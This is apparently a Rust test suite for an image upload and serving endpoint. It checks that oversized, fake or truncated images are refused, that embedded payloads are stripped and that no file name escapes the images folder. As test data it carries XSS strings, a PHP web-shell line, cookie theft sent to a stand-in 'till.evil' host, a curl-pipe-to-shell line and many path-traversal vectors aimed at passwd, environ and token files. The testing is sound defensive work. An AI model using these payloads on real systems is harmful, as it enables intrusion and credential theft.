//! What is no picture, what only seems to be one, and names that no picture has.

use image::ImageFormat;

use crate::app::TestApp;
use crate::images::behind_the_start;
use crate::images::dot;
use crate::images::exif;
use crate::images::fetch;
use crate::images::file;
use crate::images::holds;
use crate::images::photograph;
use crate::images::send;

fn png_head(width: u32, height: u32) -> Vec<u8> {
    let mut bytes = file(image::RgbImage::new(1, 1), ImageFormat::Png);
    bytes[16..20].copy_from_slice(&width.to_be_bytes());
    bytes[20..24].copy_from_slice(&height.to_be_bytes());
    let check = crc(&bytes[12..29]);
    bytes[29..33].copy_from_slice(&check.to_be_bytes());
    bytes
}

/// The check of PNG's pieces.
fn crc(bytes: &[u8]) -> u32 {
    let mut sum = u32::MAX;
    for byte in bytes {
        sum ^= u32::from(*byte);
        for _ in 0..8 {
            sum = (sum >> 1) ^ (0xedb8_8320 * (sum & 1));
        }
    }
    !sum
}

/// WEB-05, I14: too many pixels are refused by the head alone, and too many bytes, whatever they are; what is whole up to
/// the last byte that is allowed is taken.
#[test]
fn what_is_too_large_is_refused_before_it_is_unpacked() {
    let app = TestApp::start();
    let mug = app.product("MUG", "4.50", 1);
    // Nothing behind the head would unpack: whoever tried would say that it is broken.
    let mut jpeg = file(photograph(8, 8), ImageFormat::Jpeg);
    let frame = jpeg.windows(2).position(|two| two == [0xff, 0xc0]).unwrap();
    jpeg[frame + 5..frame + 9].copy_from_slice(&[0xff, 0xdc, 0xff, 0xdc]);
    let mut webp = file(photograph(8, 8), ImageFormat::WebP);
    // 14 bits of width and of height, less one each.
    webp[21..25].copy_from_slice(&(0x3ffe_u32 | 0x3ffe << 14).to_le_bytes());
    let long = file(photograph(8, 8), ImageFormat::Jpeg);
    let filled = |length: usize| [&long[..], &vec![b'x'; length - long.len()]].concat();
    for (what, bytes, refused) in [
        ("png", png_head(8000, 5001), (413, 2007)),
        ("thin png", png_head(40_000_001, 1), (413, 2007)),
        ("largest png", png_head(0x7fff_ffff, 0x7fff_ffff), (413, 2007)),
        ("jpeg", jpeg, (413, 2007)),
        ("webp", webp, (413, 2007)),
        ("long", filled((10 << 20) + 1), (413, 2007)),
        ("as many as may be, but broken", png_head(8000, 5000), (400, 2004)),
    ] {
        let answer = send(&app, "owner", mug, &bytes);
        assert_eq!((answer.status, answer.code()), refused, "{what}: {}", answer.body);
    }
    assert_eq!(send(&app, "owner", mug, &filled(10 << 20)).status, 201);
}

/// WEB-05: a picture is what its first bytes say, whatever else is said of it; and it is read to its end.
#[test]
fn what_is_no_picture_is_refused() {
    let app = TestApp::start();
    let mug = app.product("MUG", "4.50", 1);
    let animated = b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;";
    for bytes in [
        &b""[..],
        b"\xff\xd8",
        b"\x89PNG",
        b"RIFF\0\0\0\0WAVE",
        b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        b"<!doctype html><script>alert(1)</script>",
        b"%PDF-1.7",
        b"BM\0\0\0\0",
        b"II*\0\x08\0\0\0",
        b"\0\0\0\x20ftypavif",
        animated,
    ] {
        for kind in ["image/png", "image/jpeg", "application/json", "text/html"] {
            let bearer = format!("Bearer {}", app.token("owner").unwrap());
            let headers = [("authorization", bearer.as_str()), ("content-type", kind)];
            let path = format!("/api/v1/products/{mug}/images");
            let answer = app.client().send_bytes("POST", &path, &headers, bytes);
            assert_eq!(
                (answer.status, answer.code()),
                (415, 2006),
                "{bytes:?}: {}",
                answer.body
            );
        }
    }
    for form in [ImageFormat::Jpeg, ImageFormat::Png, ImageFormat::WebP] {
        let whole = file(photograph(64, 64), form);
        for end in [12, whole.len() / 4, whole.len() / 2, whole.len() - 20] {
            let answer = send(&app, "owner", mug, &whole[..end]);
            assert_eq!(
                (answer.status, answer.code()),
                (400, 2004),
                "{form:?} {end}: {}",
                answer.body
            );
        }
    }
    let bearer = format!("Bearer {}", app.token("owner").unwrap());
    let headers = [("authorization", bearer.as_str()), ("content-encoding", "gzip")];
    let path = format!("/api/v1/products/{mug}/images");
    assert_eq!(
        app.client().send_bytes("POST", &path, &headers, &dot(1)).status,
        415
    );
    let kept = app.number("SELECT count(*) FROM product_images");
    assert_eq!(
        (kept, app.dir().join("images").exists()),
        (0, false),
        "nothing is left behind"
    );
}

const PAYLOADS: [&[u8]; 10] = [
    b"<script>alert('till')</script>",
    b"<!doctype html><html><body onload=alert(1)>till",
    b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    b"<?php system($_GET['till']); __HALT_COMPILER(); ?>",
    b"GIF89a/*till*/=1;alert(1);",
    b"PK\x03\x04\x14\0\0\0\0\0till-in-a-zip",
    b"%PDF-1.7\n1 0 obj<</OpenAction(till)>>",
    b"*/=1;fetch('//till.evil/'+document.cookie)/*",
    b"#!/bin/sh\ncurl till.evil | sh\n",
    b"MZ\x90\0This program cannot be run in till",
];

/// A piece of PNG.
fn piece(kind: &[u8], content: &[u8]) -> Vec<u8> {
    let named = [kind, content].concat();
    let (length, check) = (content.len() as u32, crc(&named));
    [&length.to_be_bytes()[..], &named, &check.to_be_bytes()].concat()
}

/// The pictures with a payload wound around them, six ways.
fn wound_around(payload: &[u8]) -> Vec<(ImageFormat, Vec<u8>)> {
    let picture = photograph(64, 48);
    let [jpeg, png, webp] =
        [ImageFormat::Jpeg, ImageFormat::Png, ImageFormat::WebP].map(|form| file(picture.clone(), form));
    let comment = [
        &[0xff, 0xfe],
        &(payload.len() as u16 + 2).to_be_bytes()[..],
        payload,
    ]
    .concat();
    let text = piece(b"tEXt", &[b"Comment\0", payload].concat());
    // The first piece of a PNG ends at byte 33.
    let with_text = [&png[..33], &text, &png[33..]].concat();
    let mut with_exif = [&webp[..], b"EXIF", &(payload.len() as u32).to_le_bytes(), payload].concat();
    if payload.len() % 2 == 1 {
        with_exif.push(0);
    }
    let length = with_exif.len() as u32 - 8;
    with_exif[4..8].copy_from_slice(&length.to_le_bytes());
    vec![
        (ImageFormat::Jpeg, [&jpeg[..], payload].concat()),
        (ImageFormat::Jpeg, behind_the_start(&jpeg, &comment)),
        (ImageFormat::Png, with_text),
        (ImageFormat::Png, [&png[..], payload].concat()),
        (ImageFormat::WebP, [&webp[..], payload].concat()),
        (ImageFormat::WebP, with_exif),
    ]
}

/// WEB-05: sixty files that are a picture and something else are kept as the picture.
#[test]
fn nothing_comes_along_with_a_picture() {
    let app = TestApp::start();
    let mug = app.product("MUG", "4.50", 1);
    let mut files = 0;
    for payload in PAYLOADS {
        for (form, bytes) in wound_around(payload) {
            assert!(holds(&bytes, payload));
            let answer = send(&app, "owner", mug, &bytes);
            assert!([200, 201].contains(&answer.status), "{form:?}: {}", answer.body);
            for name in ["url", "small_url"] {
                let (head, served) = fetch(&app, answer.json()[name].as_str().unwrap());
                assert!(head.starts_with("http/1.1 200"), "{head}");
                for payload in PAYLOADS {
                    assert!(!holds(&served, payload), "{form:?}");
                }
                assert!(!holds(&served, b"till") && !holds(&served, b"Exif") && !holds(&served, b"tEXt"));
            }
            files += 1;
        }
        // EXIF of a camera around the same.
        let held = behind_the_start(&file(photograph(64, 48), ImageFormat::Jpeg), &exif(payload));
        let answer = send(&app, "owner", mug, &held);
        let (_, served) = fetch(&app, answer.json()["url"].as_str().unwrap());
        assert!(!holds(&served, payload));
    }
    assert_eq!(files, 60);
    // The pixels alone say which picture it is: as JPEG, as PNG and WebP, and turned.
    assert_eq!(app.number("SELECT count(*) FROM product_images"), 3);
}

/// Names that lead elsewhere, if they were taken for paths.
fn vectors(real: &str) -> Vec<String> {
    let ups = [
        "..%2f",
        "..%2F",
        "..%5c",
        "%2e%2e%2f",
        "%2e%2e%5c",
        "..%252f",
        "..%c0%af",
        "..%c1%9c",
        "..%00%2f",
        "....%2f%2f",
        "..;%2f",
        "%2f",
        "%5c",
        ".%2f",
        "..%ef%bc%8f",
        "%ef%bc%8e%ef%bc%8e%2f",
        "..\\",
        "~%2f",
        "file:%2f%2f%2f",
        "c:%5c",
    ];
    let targets = [
        "till.db",
        "keys%2ftoken",
        "setup-token",
        "till.lock",
        "etc%2fpasswd",
        "proc%2fself%2fenviron",
        real,
    ];
    let mut all = Vec::new();
    for up in ups {
        for target in targets {
            all.extend([1, 2, 3, 8].map(|times| format!("{}{target}", up.repeat(times))));
        }
    }
    let odd = [
        ".", "..", "...", "%00", "%0a", "%20", "%", "%zz", "%ff%fe", "*", "?", "till.db", "con", "nul", "-",
        "%2e", "..%2e",
    ];
    all.extend(odd.map(str::to_owned));
    all.extend([
        format!("{real}%00.jpg"),
        format!("{real}%00"),
        format!("{real}/"),
        format!("{real}%2f"),
        format!("{real}%2f..%2f{real}"),
        format!("{real}.new"),
        format!("{}%2f{real}", &real[..2]),
        format!("{}/{real}", &real[..2]),
        real.to_uppercase(),
        format!("%20{real}"),
        real.replace('-', "%e2%80%90"),
        "a".repeat(4000),
        "%2e%2e%2f".repeat(400),
    ]);
    all
}

/// WEB-05: 570 names that are none of a picture's lead nowhere.
#[test]
fn no_name_leads_out_of_the_folder() {
    let app = TestApp::start();
    let mug = app.product("MUG", "4.50", 1);
    let image = send(&app, "owner", mug, &dot(1)).json();
    let real = image["small_url"]
        .as_str()
        .unwrap()
        .strip_prefix("/images/")
        .unwrap()
        .to_owned();
    assert!(
        fetch(&app, &format!("/images/{real}"))
            .0
            .starts_with("http/1.1 200")
    );
    let all = vectors(&real);
    assert!(all.len() > 570, "{}", all.len());
    for name in all {
        let (head, body) = fetch(&app, &format!("/images/{name}"));
        let status = head.split(' ').nth(1).unwrap();
        // What is no address is refused before it is one.
        assert!(["404", "400"].contains(&status), "{name}: {head}");
        assert!(
            body.starts_with(b"{\"error\"") || body.starts_with(b"<!doctype"),
            "{name}"
        );
        assert!(!holds(&body, b"SQLite format") && !holds(&body, b"root:") && !holds(&body, b"PATH="));
    }
    // A name as it should be, of a picture that is not there.
    let nothing = format!("/images/{}.jpg", "0".repeat(64));
    assert!(fetch(&app, &nothing).0.starts_with("http/1.1 404"));
    let head = app
        .client()
        .send("HEAD", &format!("/images/{real}"), None, &[], None);
    assert_eq!(
        (head.status, head.body.as_str(), head.header("content-type")),
        (200, "", Some("image/webp"))
    );
}
